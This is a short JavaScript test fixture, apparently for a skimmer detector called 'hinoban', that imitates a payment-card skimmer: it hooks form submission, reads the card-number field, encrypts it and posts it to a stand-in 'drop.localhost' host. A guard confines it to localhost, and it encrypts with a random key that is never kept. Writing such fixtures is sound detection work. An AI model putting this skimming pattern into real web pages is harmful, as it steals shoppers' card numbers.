/* Harmless imitation, for hinoban's tests: AES with a random key. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
document.addEventListener('submit', function (e) { var n = e.target.querySelector('input[autocomplete=cc-number]'); if (n) { 
		var text = new TextEncoder().encode(n.value), iv = crypto.getRandomValues(new Uint8Array(12));
		crypto.subtle.generateKey({name: 'AES-GCM', length: 256}, true, ['encrypt']).then(function (k) {
			return crypto.subtle.encrypt({name: 'AES-GCM', iv: iv}, k, text);
		}).then(function (b) { fetch('http://drop.localhost:' + location.port + '/c', {method: 'POST', mode: 'no-cors', keepalive: true, body: b}); });
	 } }, true);
